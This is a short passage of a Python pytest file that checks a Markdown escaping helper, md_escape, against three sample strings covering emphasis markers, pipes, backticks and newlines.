        ("_emphasis_ and *bold*", r"\_emphasis\_ and \*bold\*"),
        ("a | b `code`", r"a \| b \`code\`"),
        ("two\nlines", "two lines"),
    ],
)
def test_md_escape(raw: str, escaped: str) -> None:
    assert md_escape(raw) == escaped
